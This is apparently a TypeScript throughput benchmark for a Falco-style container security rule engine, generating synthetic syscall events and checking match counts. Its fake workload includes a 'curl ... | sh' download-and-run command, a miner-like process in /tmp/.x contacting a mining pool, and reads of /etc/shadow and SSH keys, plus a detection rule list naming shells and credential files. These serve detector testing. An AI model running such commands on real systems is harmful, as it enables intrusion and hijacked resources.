/**
 * Rule engine throughput benchmark (a script, not a test).
 *
 * Builds ≥ 1,000,000 synthetic but realistic EvalContexts (a container workload: a shell,
 * a web server, package tools, a miner-like process; openat/read/write/close/execve/connect/
 * clone/mmap/… in proportions typical of strace captures), compiles the full rule set and
 * evaluates every event on one core. Reports events/s and peak RSS, writes bench/results/rules.json.
 *
 * Rule set: sandbox-profiles/rules/*.yaml if present, else the upstream Falco files in /tmp
 * (falco_rules.yaml, falco-incubating_rules.yaml, falco-sandbox_rules.yaml), else a built-in set.
 *
 * Options: --events N, --passes N (default 5), --rules FILE.yaml ..., --reference-events N (default 100,000),
 *   --baseline DIR (another checkout's engine timed in the same run, passes interleaved; e.g.
 *   `mkdir /tmp/base && git archive <commit> libs | tar -x -C /tmp/base && ln -s $PWD/node_modules /tmp/base/`).
 * Fails (exit 1) if the matches differ from the pinned count for the shipped rules, from the reference
 * evaluator (rules/reference.ts) on the first events, or from the baseline.
 *
 * Run (as `npm run bench` does): node --max-old-space-size=4096 --import tsx bench/rules.bench.ts [options]
 * Profile: add --cpu-prof --cpu-prof-dir=DIR before --import.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { PerformanceObserver } from 'node:perf_hooks';
import os from 'node:os';
import { compileRules, type RuleSource } from '../libs/analysis/src/rules/index.js';
import { referenceRuleSet } from '../libs/analysis/src/rules/reference.js';
import { seededRandom as rng } from '../libs/analysis/src/rules/testing.js';
import type { EvalContext, FdState, ProcessState, SandboxMetadata } from '../libs/analysis/src/state/context.js';
import type { FdType, NormalizedEvent } from '../libs/analysis/src/events/event.js';

const here = dirname(fileURLToPath(import.meta.url));
// Works from the source tree and from a tsc outDir that mirrors it.
const repoRoot = [process.cwd(), resolve(here, '..')].find((d) => existsSync(join(d, 'package.json')) && existsSync(join(d, 'libs'))) ?? process.cwd();

function argValue(name: string): string | undefined {
  const i = process.argv.indexOf(name);
  return i >= 0 ? process.argv[i + 1] : undefined;
}
const N = Number(argValue('--events') ?? 1_000_000);

// ------------------------------------------------------------------ rule set

function loadRuleSources(): { label: string; sources: RuleSource[] } {
  const explicit = process.argv.flatMap((a, i) => (process.argv[i - 1] === '--rules' ? [a] : []));
  if (explicit.length) return { label: 'command line', sources: explicit.map((f) => ({ name: f, text: readFileSync(f, 'utf8') })) };
  const dir = join(repoRoot, 'sandbox-profiles', 'rules');
  if (existsSync(dir)) {
    const files = readdirSync(dir)
      .filter((f) => /\.ya?ml$/.test(f))
      .sort();
    if (files.length) return { label: 'sandbox-profiles/rules', sources: files.map((f) => ({ name: join('sandbox-profiles/rules', f), text: readFileSync(join(dir, f), 'utf8') })) };
  }
  const upstream = ['/tmp/falco_rules.yaml', '/tmp/falco-incubating_rules.yaml', '/tmp/falco-sandbox_rules.yaml'].filter((f) => existsSync(f));
  if (upstream.length) return { label: 'upstream Falco rules from /tmp', sources: upstream.map((f) => ({ name: f, text: readFileSync(f, 'utf8') })) };
  return { label: 'built-in', sources: [{ name: 'builtin.yaml', text: BUILTIN }] };
}

const BUILTIN = `
- list: shell_binaries
  items: [sh, bash, dash, zsh, ash]
- list: sensitive_files
  items: [/etc/shadow, /etc/sudoers, /root/.ssh/id_rsa]
- macro: open_read
  condition: evt.type in (open, openat, openat2) and evt.is_open_read=true and fd.typechar='f' and fd.num>=0
- macro: open_write
  condition: evt.type in (open, openat, openat2) and evt.is_open_write=true and fd.typechar='f' and fd.num>=0
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- rule: Read sensitive file
  desc: d
  condition: open_read and fd.name in (sensitive_files)
  output: "%proc.name read %fd.name"
  priority: warning
- rule: Write below etc
  desc: d
  condition: open_write and fd.name startswith /etc/
  output: "%proc.name wrote %fd.name"
  priority: error
- rule: Shell spawned
  desc: d
  condition: spawned_process and proc.name in (shell_binaries) and proc.pname exists
  output: "%proc.cmdline"
  priority: notice
- rule: Outbound connection
  desc: d
  condition: evt.type = connect and fd.typechar = 4 and not fd.snet in ("10.0.0.0/8", "127.0.0.0/8")
  output: "%fd.name"
  priority: notice
`;

// ------------------------------------------------------------------ synthetic workload

const rand = rng(42);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;

const START = 1_750_000_000_000_000_000;
const sandbox: SandboxMetadata = {
  containerId: 'f3a9c1d2e4b5a6978877665544332211',
  containerName: 'q-bench',
  image: 'registry.local/sample:1.0',
  imageRepository: 'registry.local/sample',
  imageTag: '1.0',
  privileged: false,
  mounts: [],
};
const DOCKER_CAPS = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_FOWNER', 'CAP_FSETID', 'CAP_KILL', 'CAP_SETGID', 'CAP_SETUID', 'CAP_SETPCAP', 'CAP_NET_BIND_SERVICE', 'CAP_NET_RAW', 'CAP_SYS_CHROOT', 'CAP_MKNOD', 'CAP_AUDIT_WRITE', 'CAP_SETFCAP'];

let nextPid = 1;
function proc(name: string, exepath: string, args: string[], parent?: ProcessState, extra: Partial<ProcessState> = {}): ProcessState {
  const pid = nextPid++;
  return {
    pid,
    vpid: pid,
    ppid: parent?.pid ?? 0,
    name,
    exe: args[0] ?? exepath,
    exepath,
    args,
    cwd: '/app',
    uid: 0,
    gid: 0,
    loginuid: -1,
    env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', 'HOME=/root'],
    tty: 0,
    sid: parent?.sid ?? pid,
    pgid: parent?.pgid ?? pid,
    startTs: START,
    exeWritten: false,
    exeFromMemfd: false,
    capEffective: DOCKER_CAPS,
    capPermitted: DOCKER_CAPS,
    parent,
    ...extra,
  };
}
const init = proc('docker-init', '/sbin/docker-init', ['/sbin/docker-init', '--', '/entrypoint.sh']);
const entry = proc('entrypoint.sh', '/entrypoint.sh', ['/bin/sh', '/entrypoint.sh'], init);
const nginx = proc('nginx', '/usr/sbin/nginx', ['nginx', '-g', 'daemon off;'], entry, { uid: 101, gid: 101 });
const worker = proc('nginx', '/usr/sbin/nginx', ['nginx: worker process'], nginx, { uid: 101, gid: 101 });
const sh = proc('sh', '/bin/sh', ['sh', '-c', 'apk add curl && curl -s http://10.0.0.7/x.sh | sh'], entry);
const apk = proc('apk', '/sbin/apk', ['apk', 'add', 'curl'], sh);
const curl = proc('curl', '/usr/bin/curl', ['curl', '-s', 'http://10.0.0.7/x.sh'], sh);
const miner = proc('kworkerd', '/tmp/.x/kworkerd', ['/tmp/.x/kworkerd', '-o', 'pool.example:3333'], sh, { exeWritten: true });
const python = proc('python3', '/usr/bin/python3.11', ['python3', '/app/server.py'], entry, { uid: 1000, gid: 1000 });
const procs = [nginx, worker, worker, worker, sh, apk, curl, python, python, miner];

const files = [
  '/etc/ld.so.cache', '/lib/ld-musl-x86_64.so.1', '/usr/lib/libssl.so.3', '/etc/nginx/nginx.conf', '/var/log/nginx/access.log',
  '/usr/share/nginx/html/index.html', '/app/server.py', '/usr/lib/python3.11/os.py', '/etc/passwd', '/etc/group', '/etc/resolv.conf',
  '/etc/hosts', '/proc/self/status', '/proc/1/cgroup', '/tmp/upload.tmp', '/var/cache/apk/APKINDEX.tar.gz', '/etc/apk/world',
  '/usr/bin/curl', '/root/.ash_history', '/etc/shadow', '/etc/ssl/certs/ca-certificates.crt', '/dev/null', '/dev/urandom',
  '/sys/fs/cgroup/memory.max', '/app/static/app.js', '/etc/crontabs/root', '/root/.ssh/authorized_keys',
];
const remotes = ['10.0.0.7:80', '10.0.0.7:443', '127.0.0.1:6379', '172.17.0.1:53', '93.184.216.34:443', '169.254.169.254:80', '45.9.148.10:3333'];

const fdCache = new Map<string, FdState>();
function fileFd(name: string, num: number): FdState {
  const key = `${num}:${name}`;
  let f = fdCache.get(key);
  if (!f) {
    f = { num, type: name.endsWith('/') ? 'directory' : 'file', name, nameraw: name, connected: false, isServer: false, nameChanged: false };
    fdCache.set(key, f);
  }
  return f;
}
function sockFd(remote: string, num: number, udp = false): FdState {
  const key = `s${num}:${remote}:${udp}`;
  let f = fdCache.get(key);
  if (!f) {
    const [sip, sport] = remote.split(':');
    const cport = 40000 + num;
    f = { num, type: 'ipv4', name: `172.17.0.2:${cport}->${remote}`, nameraw: '', l4proto: udp ? 'udp' : 'tcp', family: 'ip', cip: '172.17.0.2', cport, sip, sport: Number(sport), connected: true, isServer: false, nameChanged: false };
    fdCache.set(key, f);
  }
  return f;
}

interface Kind {
  type: string;
  weight: number;
}
const MIX: Kind[] = [
  { type: 'openat', weight: 30 },
  { type: 'read', weight: 18 },
  { type: 'write', weight: 12 },
  { type: 'close', weight: 10 },
  { type: 'fstat', weight: 5 },
  { type: 'mmap', weight: 5 },
  { type: 'newfstatat', weight: 4 },
  { type: 'clone', weight: 3 },
  { type: 'execve', weight: 3 },
  { type: 'connect', weight: 3 },
  { type: 'sendto', weight: 2 },
  { type: 'recvfrom', weight: 2 },
  { type: 'socket', weight: 1 },
  { type: 'getdents64', weight: 1 },
  { type: 'unlinkat', weight: 0.5 },
  { type: 'renameat2', weight: 0.3 },
  { type: 'fchmodat', weight: 0.2 },
  { type: 'setuid', weight: 0.1 },
  { type: 'ptrace', weight: 0.05 },
  { type: 'memfd_create', weight: 0.05 },
];
const cumulative: { type: string; upto: number }[] = [];
{
  const total = MIX.reduce((s, k) => s + k.weight, 0);
  let acc = 0;
  for (const k of MIX) cumulative.push({ type: k.type, upto: (acc += k.weight / total) });
}
function pickType(): string {
  const r = rand();
  for (const c of cumulative) if (r < c.upto) return c.type;
  return 'openat';
}

function buildContexts(n: number): EvalContext[] {
  const out: EvalContext[] = new Array(n);
  for (let i = 0; i < n; i++) {
    const p = pick(procs);
    const type = pickType();
    const seq = i + 1;
    let fd: FdState | undefined;
    let args: Record<string, string | number> = {};
    let rawres = 0;
    let res: number | string = 0;
    const fdnum = 3 + (i % 20);
    switch (type) {
      case 'openat': {
        const name = pick(files);
        const write = rand() < 0.15;
        args = { dirfd: 'AT_FDCWD', name, flags: write ? 'O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC' : 'O_RDONLY|O_CLOEXEC', mode: write ? '0644' : '0' };
        if (rand() < 0.1) {
          rawres = -2;
          res = 'ENOENT';
        } else {
          rawres = fdnum;
          res = fdnum;
          fd = fileFd(name, fdnum);
        }
        break;
      }
      case 'read':
      case 'write':
      case 'fstat':
      case 'close':
      case 'getdents64':
        fd = rand() < 0.8 ? fileFd(pick(files), fdnum) : sockFd(pick(remotes), fdnum);
        args = { fd: fdnum, size: 4096 };
        rawres = type === 'read' || type === 'write' ? 512 : 0;
        res = rawres;
        break;
      case 'connect':
      case 'sendto':
      case 'recvfrom': {
        const remote = pick(remotes);
        fd = sockFd(remote, fdnum, remote.endsWith(':53'));
        args = { fd: fdnum, addr: remote };
        if (type === 'connect' && rand() < 0.3) {
          rawres = -115;
          res = 'EINPROGRESS';
        }
        break;
      }
      case 'execve':
        args = { filename: p.exepath, argv: p.args.join(' ') };
        break;
      case 'clone':
        args = { flags: 'CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD' };
        rawres = nextPid + (i % 1000);
        res = rawres;
        break;
      case 'unlinkat':
        args = { dirfd: 'AT_FDCWD', name: pick(files), flags: 0 };
        break;
      case 'renameat2':
        args = { olddirfd: 'AT_FDCWD', oldpath: pick(files), newdirfd: 'AT_FDCWD', newpath: '/tmp/x' };
        break;
      case 'fchmodat':
        args = { dirfd: 'AT_FDCWD', filename: '/tmp/.x/kworkerd', mode: '0755' };
        break;
      case 'setuid':
        args = { uid: 0 };
        break;
      case 'ptrace':
        args = { request: 'PTRACE_ATTACH', pid: 1 };
        break;
      case 'memfd_create':
        args = { name: 'x', flags: 'MFD_CLOEXEC' };
        rawres = fdnum;
        res = fdnum;
        break;
      default:
        args = { addr: '0x0', length: 4096 };
    }
    const event: NormalizedEvent = {
      v: 1,
      seq,
      ts: START + seq * 1000,
      source: 'strace',
      type,
      res,
      rawres,
      pid: p.pid,
      tid: p.pid,
      ppid: p.ppid,
      vpid: p.vpid,
      proc: { name: p.name, exe: p.exe, args: p.args, cwd: p.cwd, uid: p.uid, gid: p.gid },
      fd: fd ? { num: fd.num, type: fd.type as FdType, name: fd.name } : undefined,
      args,
      container: { id: sandbox.containerId.slice(0, 12), image: sandbox.image },
    };
    out[i] = { event, proc: p, fd, sandbox };
  }
  return out;
}

// ------------------------------------------------------------------ run

/**
 * The shipped rule set this dataset was last measured with, and its matches per pass: the bench
 * fails if the engine finds a different number (same rules, same events → same matches). When the
 * shipped rules change (their version differs) the reference evaluator's count is the check.
 */
const PINNED = { rulesVersion: 'fcf275a3b5d9ea9514a28750cfef04fda1a999439818f10d8d1e81af80e0fc4c', events: 1_000_000, matchesPerPass: 81_910 };

const mb = (b: number) => Math.round((b / 1024 / 1024) * 10) / 10;
const { label, sources } = loadRuleSources();
const t0 = process.hrtime.bigint();
const set = compileRules(sources);
const compileMs = Number(process.hrtime.bigint() - t0) / 1e6;
const rulesLoaded = set.report.filter((r) => r.kind === 'rule' && r.status === 'loaded').length;
const rulesTotal = set.report.filter((r) => r.kind === 'rule').length;

// --baseline DIR: another checkout's engine (e.g. `git archive <commit> libs | tar -x -C DIR`), timed
// in the same run, its passes interleaved with ours, so machine load hits both alike.
const baselineDir = argValue('--baseline');
type Engine = { evaluate(ctx: EvalContext): unknown[] };
const baseline: Engine | undefined = baselineDir
  ? ((await import(pathToFileURL(resolve(baselineDir, 'libs/analysis/src/rules/index.ts')).href)) as { compileRules: (s: RuleSource[]) => Engine }).compileRules(sources)
  : undefined;

const heapBeforeData = process.memoryUsage().heapUsed;
const tb = process.hrtime.bigint();
const ctxs = buildContexts(N);
const buildMs = Number(process.hrtime.bigint() - tb) / 1e6;
global.gc?.();
const heapAfterData = process.memoryUsage().heapUsed;
const rssAfterData = process.memoryUsage().rss;

// Garbage collection during the timed passes (the engine's allocations show up here).
let gcMs = 0;
let gcCount = 0;
const gcObserver = new PerformanceObserver((list) => {
  for (const e of list.getEntries()) {
    gcMs += e.duration;
    gcCount++;
  }
});
gcObserver.observe({ entryTypes: ['gc'] });

// Wall time is what the worker sees; on a shared, loaded machine the process's own CPU time
// (user + system) is the steadier figure, so both are reported.
let peakHeapDuringEval = 0;
const evaluatePass = (engine: Engine): { ms: number; cpuMs: number; matches: number } => {
  let matches = 0;
  const s = process.hrtime.bigint();
  const c = process.cpuUsage();
  for (let i = 0; i < ctxs.length; i++) {
    matches += engine.evaluate(ctxs[i]!).length;
    if ((i & 0xffff) === 0) peakHeapDuringEval = Math.max(peakHeapDuringEval, process.memoryUsage().heapUsed);
  }
  const cpu = process.cpuUsage(c);
  return { ms: Number(process.hrtime.bigint() - s) / 1e6, cpuMs: (cpu.user + cpu.system) / 1000, matches };
};

// Warm-up on a slice (JIT), then timed full passes (alternating with the baseline's, if any).
for (let i = 0; i < Math.min(200_000, ctxs.length); i++) {
  set.evaluate(ctxs[i]!);
  baseline?.evaluate(ctxs[i]!);
}
const PASSES = Math.max(1, Number(argValue('--passes') ?? 5));
const passes: ReturnType<typeof evaluatePass>[] = [];
const basePasses: ReturnType<typeof evaluatePass>[] = [];
let gcOurs = { ms: 0, count: 0 };
// GC entries reach the observer from the event loop: yield after each pass to collect them.
const settle = () => new Promise((r) => setTimeout(r, 5));
for (let p = 0; p < PASSES; p++) {
  await settle();
  const g0 = { ms: gcMs, count: gcCount };
  passes.push(evaluatePass(set));
  await settle();
  gcOurs = { ms: gcOurs.ms + gcMs - g0.ms, count: gcOurs.count + gcCount - g0.count };
  if (baseline) basePasses.push(evaluatePass(baseline));
}
gcObserver.disconnect();
const med = (xs: number[]) => [...xs].sort((a, b) => a - b)[xs.length >> 1]!;
const best = passes.reduce((a, b) => (b.ms < a.ms ? b : a));
const median = [...passes].sort((a, b) => a.ms - b.ms)[PASSES >> 1]!;
const perRule = new Map<string, number>();
for (let i = 0; i < ctxs.length; i++) for (const m of set.evaluate(ctxs[i]!)) perRule.set(m.rule, (perRule.get(m.rule) ?? 0) + 1);

// ------------------------------------------------------------------ same matches

const failures: string[] = [];
if (new Set(passes.map((p) => p.matches)).size !== 1) failures.push(`matches differ between passes: ${passes.map((p) => p.matches).join(', ')}`);
if (baseline && basePasses.some((p) => p.matches !== best.matches)) failures.push(`baseline engine found ${basePasses[0]!.matches} matches per pass, this engine ${best.matches}`);
const pinnedApplies = set.version === PINNED.rulesVersion && ctxs.length === PINNED.events;
if (pinnedApplies && best.matches !== PINNED.matchesPerPass) failures.push(`expected ${PINNED.matchesPerPass} matches per pass (pinned for this rule set and dataset), got ${best.matches}`);
// The reference evaluator (slow tree walk, every rule on every event) on a sample of the events:
// rule by rule, the same matches.
const REF_EVENTS = Math.min(ctxs.length, Number(argValue('--reference-events') ?? 100_000));
const ref = referenceRuleSet(sources);
const evaluated = new Set(set.ruleNames);
let refMatches = 0;
const tr = process.hrtime.bigint();
for (let i = 0; i < REF_EVENTS; i++) {
  const ctx = ctxs[i]!;
  const want = ref.evaluate(ctx).filter((r) => evaluated.has(r));
  const got = set.evaluate(ctx).map((m) => m.rule);
  refMatches += want.length;
  if (want.join('\n') !== got.join('\n') && failures.length < 10) failures.push(`event ${i} (${ctx.event.type}): engine ${JSON.stringify(got)}, reference ${JSON.stringify(want)}`);
}
const refMs = Number(process.hrtime.bigint() - tr) / 1e6;

const cpuMedian = med(passes.map((p) => p.cpuMs));
const result = {
  date: new Date().toISOString(),
  node: process.version,
  cpu: os.cpus()[0]?.model ?? 'unknown',
  loadAverage: os.loadavg().map((x) => Math.round(x * 100) / 100),
  ruleSet: label,
  ruleFiles: sources.map((s) => s.name),
  rulesVersion: set.version,
  rulesLoaded: `${rulesLoaded}/${rulesTotal}`,
  rulesEvaluated: set.ruleNames.length,
  compileMs: Math.round(compileMs),
  events: ctxs.length,
  buildContextsMs: Math.round(buildMs),
  passesMs: passes.map((p) => Math.round(p.ms)),
  passesCpuMs: passes.map((p) => Math.round(p.cpuMs)),
  eventsPerCpuSecondMedian: Math.round(ctxs.length / (cpuMedian / 1000)),
  eventsPerSecondBest: Math.round(ctxs.length / (best.ms / 1000)),
  eventsPerSecondMedian: Math.round(ctxs.length / (median.ms / 1000)),
  nsPerEventMedian: Math.round((median.ms * 1e6) / ctxs.length),
  matchesPerPass: best.matches,
  matchCheck: {
    pinned: pinnedApplies ? `${PINNED.matchesPerPass} per pass (rules version ${PINNED.rulesVersion.slice(0, 12)})` : 'not applicable (other rules or dataset size)',
    referenceEvents: REF_EVENTS,
    referenceMatches: refMatches,
    referenceMs: Math.round(refMs),
    failures,
  },
  baseline: baseline
    ? {
        dir: baselineDir,
        passesMs: basePasses.map((p) => Math.round(p.ms)),
        passesCpuMs: basePasses.map((p) => Math.round(p.cpuMs)),
        eventsPerCpuSecondMedian: Math.round(ctxs.length / (med(basePasses.map((p) => p.cpuMs)) / 1000)),
        speedupCpu: Math.round((med(basePasses.map((p) => p.cpuMs)) / cpuMedian) * 100) / 100,
        /** Median over passes of (baseline pass CPU time / the pass before it): steadier when the load changes during the run. */
        speedupCpuPaired: Math.round(med(basePasses.map((b, i) => b.cpuMs / passes[i]!.cpuMs)) * 100) / 100,
        eventsPerCpuSecondBest: Math.round(ctxs.length / (Math.min(...basePasses.map((p) => p.cpuMs)) / 1000)),
      }
    : undefined,
  matchesByRule: Object.fromEntries([...perRule].sort((a, b) => b[1] - a[1])),
  eventMix: Object.fromEntries(MIX.map((k) => [k.type, k.weight])),
  memory: {
    peakRssMB: mb(process.resourceUsage().maxRSS * 1024),
    rssAfterDatasetMB: mb(rssAfterData),
    heapUsedMB: mb(process.memoryUsage().heapUsed),
    datasetHeapMB: mb(heapAfterData - heapBeforeData),
    /** Heap above the dataset at its highest during the timed passes, per million events evaluated (garbage not yet collected included). */
    evalHeapAboveDatasetMBPerMillionEvents: mb(((peakHeapDuringEval - heapAfterData) * 1e6) / ctxs.length),
    /** Peak RSS minus RSS once the dataset was built, per million events. */
    peakRssAboveDatasetMBPerMillionEvents: mb(((process.resourceUsage().maxRSS * 1024 - rssAfterData) * 1e6) / ctxs.length),
    gcPerPass: { ms: Math.round(gcOurs.ms / PASSES), collections: Math.round(gcOurs.count / PASSES) },
  },
  oneCore: 'single-threaded evaluation loop in one Node process',
};

const outDir = join(repoRoot, 'bench', 'results');
mkdirSync(outDir, { recursive: true });
if (!baseline) writeFileSync(join(outDir, 'rules.json'), JSON.stringify(result, null, 2) + '\n');
console.log(
  `rules: ${label} (${result.rulesLoaded} loaded, ${result.rulesEvaluated} evaluated, compiled in ${result.compileMs} ms)\n` +
    `events: ${result.events} built in ${result.buildContextsMs} ms, passes ${result.passesMs.join(' / ')} ms (CPU ${result.passesCpuMs.join(' / ')} ms); load average ${result.loadAverage.join(' ')}\n` +
    `throughput: ${result.eventsPerSecondMedian.toLocaleString('en')} events/s median (${result.eventsPerSecondBest.toLocaleString('en')} best), ${result.nsPerEventMedian} ns/event; ` +
    `${result.eventsPerCpuSecondMedian.toLocaleString('en')} events per CPU-second (median)\n` +
    (result.baseline
      ? `baseline ${baselineDir}: passes ${result.baseline.passesMs.join(' / ')} ms (CPU ${result.baseline.passesCpuMs.join(' / ')} ms), ${result.baseline.eventsPerCpuSecondMedian.toLocaleString('en')} events per CPU-second; speed-up ×${result.baseline.speedupCpu} (CPU time; ×${result.baseline.speedupCpuPaired} median of pass-by-pass ratios; best passes ${Math.round(ctxs.length / (Math.min(...passes.map((p) => p.cpuMs)) / 1000)).toLocaleString('en')} vs ${result.baseline.eventsPerCpuSecondBest.toLocaleString('en')} events per CPU-second)\n`
      : '') +
    `matches per pass: ${result.matchesPerPass} (pinned: ${result.matchCheck.pinned}; reference evaluator on ${REF_EVENTS} events: ${refMatches} matches, ${failures.length ? 'DIFFERENT' : 'same'})\n` +
    `memory: peak RSS ${result.memory.peakRssMB} MB (dataset ≈ ${result.memory.datasetHeapMB} MB of heap); during evaluation ${result.memory.evalHeapAboveDatasetMBPerMillionEvents} MB heap and ${result.memory.peakRssAboveDatasetMBPerMillionEvents} MB RSS above the dataset per million events; GC ${result.memory.gcPerPass.ms} ms in ${result.memory.gcPerPass.collections} collections per pass\n` +
    (baseline ? '(with --baseline, results are not written)' : `written: ${join(outDir, 'rules.json')}`),
);
if (failures.length) {
  console.error(`rule engine bench: MATCHES DIFFER\n${failures.join('\n')}`);
  process.exitCode = 1;
}
